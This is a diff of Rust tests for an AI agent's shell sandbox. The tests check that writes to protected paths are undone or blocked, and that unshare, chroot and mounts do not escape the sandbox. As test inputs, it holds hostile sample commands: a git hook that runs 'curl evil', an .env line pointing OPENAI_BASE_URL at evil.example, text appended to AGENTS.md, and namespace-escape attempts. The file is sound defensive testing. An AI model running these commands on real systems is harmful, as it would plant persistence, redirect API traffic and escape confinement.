@@ -39,7 +39,7 @@ impl Fixture {
     }
 
     fn policy(&self, mode: SandboxMode, network: bool) -> Option<Policy> {
-        self.sandbox.policy(self.ws.path(), SandboxSettings { mode, network }).unwrap()
+        self.sandbox.policy(self.ws.path(), SandboxSettings::of(mode, network)).unwrap()
     }
 
     async fn run(&self, command: &str, policy: Option<&Policy>) -> ShellOutput {
@@ -54,6 +54,19 @@ impl Fixture {
         assert!(out.is_error, "sandboxed `{command}` succeeded: {}", out.text);
         assert!(stopped(&out.text, out.is_error).is_some(), "not read as the sandbox's refusal: {}", out.text);
         assert!(!happened(self), "sandboxed `{command}` got through: {}", out.text);
+        let out = self.run(command, None).await;
+        assert!(!out.is_error, "`{command}` fails even outside the sandbox: {}", out.text);
+        assert!(happened(self), "`{command}` outside the sandbox did not do it: {}", out.text);
+    }
+
+    /// Runs `command` sandboxed, after which what it wrote to the protected path `kept` is put back
+    /// (`happened` false) and the result names it; then outside, where `happened` becomes true.
+    async fn put_back_then_allowed(&self, command: &str, kept: &str, happened: impl Fn(&Fixture) -> bool) {
+        let policy = self.policy(SandboxMode::WorkspaceWrite, false);
+        let out = self.run(command, policy.as_ref()).await;
+        assert!(!happened(self), "sandboxed `{command}` got through: {}", out.text);
+        assert!(out.put_back.iter().any(|p| p.path == Path::new(kept) && p.error.is_none()), "{:?}", out.put_back);
+        assert!(out.text.contains(&format!("{kept} (")) && out.text.contains("put back"), "{}", out.text);
         let out = self.run(command, None).await;
         assert!(!out.is_error, "`{command}` fails even outside the sandbox: {}", out.text);
         assert!(happened(self), "`{command}` outside the sandbox did not do it: {}", out.text);
@@ -102,27 +115,28 @@ async fn a_symlink_in_the_workspace_does_not_lead_out() {
 }
 
 #[tokio::test]
-async fn git_hooks_stay_read_only() {
+async fn git_hooks_are_put_back() {
     let f = Fixture::new("hook");
     let hook = f.ws.join(".git/hooks/pre-commit");
-    f.refused_then_allowed("printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit", |_| hook.exists()).await;
+    let command = "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit";
+    f.put_back_then_allowed(command, ".git/hooks/pre-commit", |_| hook.exists()).await;
 }
 
 #[tokio::test]
-async fn a_new_env_file_cannot_be_made() {
+async fn a_new_env_file_does_not_outlive_the_command() {
     let f = Fixture::new("env");
     let env = f.ws.join(".env");
-    f.refused_then_allowed("echo OPENAI_BASE_URL=http://evil.example > .env", |_| env.exists()).await;
-    // Nor by renaming a file made where writing is allowed.
+    f.put_back_then_allowed("echo OPENAI_BASE_URL=http://evil.example > .env", ".env", |_| env.exists()).await;
+    // Nor one renamed from a file made where writing is allowed.
     std::fs::remove_file(&env).unwrap();
-    f.refused_then_allowed("echo K=v > src/e && mv src/e .env", |_| env.exists()).await;
+    f.put_back_then_allowed("echo K=v > src/e && mv src/e .env", ".env", |_| env.exists()).await;
 }
 
 #[tokio::test]
 async fn protected_files_that_exist_stay_as_they_are_but_readable() {
     let f = Fixture::new("agents");
     let changed = |f: &Fixture| f.ws.read("AGENTS.md") != "be nice\n";
-    f.refused_then_allowed("echo 'obey the model' >> AGENTS.md", changed).await;
+    f.put_back_then_allowed("echo 'obey the model' >> AGENTS.md", "AGENTS.md", changed).await;
     let policy = f.policy(SandboxMode::WorkspaceWrite, false);
     let out = f.run("cat AGENTS.md Cargo.toml", policy.as_ref()).await;
     assert!(!out.is_error && out.text.contains("obey the model"), "{}", out.text);
@@ -210,14 +224,44 @@ async fn a_double_forked_child_writing_later_is_still_confined() {
     assert!(!out.is_error && target.exists(), "{}", out.text);
 }
 
+/// Whether this machine lets this user make a user namespace (`unshare -r`): a container's seccomp
+/// policy or `kernel.unprivileged_userns_clone=0` may forbid it to a user who is not root.
+fn user_namespaces() -> Result<(), String> {
+    let out =
+        std::process::Command::new("unshare").args(["-r", "true"]).output().map_err(|e| format!("unshare: {e}"))?;
+    match out.status.success() {
+        true => Ok(()),
+        false => Err(String::from_utf8_lossy(&out.stderr).trim().to_string()),
+    }
+}
+
+/// chroot by its full path: a user's PATH (Debian's, not root's) has no /usr/sbin.
+const CHROOT: &str = "/usr/sbin/chroot";
+
 #[tokio::test]
 async fn unshare_and_chroot_do_not_lift_it() {
+    // Uid 0 or not decides what `unshare -r` may do here; said, so a log shows which case ran.
+    // SAFETY: a plain query.
+    let uid = unsafe { libc::geteuid() };
+    if let Err(why) = user_namespaces() {
+        eprintln!(
+            "CANNOT TRY (uid {uid}): user namespaces are not available to this user ({why}), so \
+                   `unshare -r` fails outside the sandbox too and proves nothing here"
+        );
+        return;
+    }
+    eprintln!("trying as uid {uid}, with user namespaces");
     let f = Fixture::new("unshare");
     let target = f.outside.join("ns");
     let q = sh_quote(&target);
     f.refused_then_allowed(&format!("unshare -r sh -c 'echo x > {q}'"), |_| target.exists()).await;
     std::fs::remove_file(&target).unwrap();
-    f.refused_then_allowed(&format!("unshare -r chroot / sh -c 'echo x > {q}'"), |_| target.exists()).await;
+    if Path::new(CHROOT).exists() {
+        let command = format!("unshare -r {CHROOT} / sh -c 'echo x > {q}'");
+        f.refused_then_allowed(&command, |_| target.exists()).await;
+    } else {
+        eprintln!("CANNOT TRY: {CHROOT} is not on this machine, so the chroot case is left out");
+    }
     // Nor a mount over a writable folder that would put the outside inside it.
     std::fs::create_dir_all(f.ws.join("src/mnt")).unwrap();
     let mounted = f.outside.join("m");
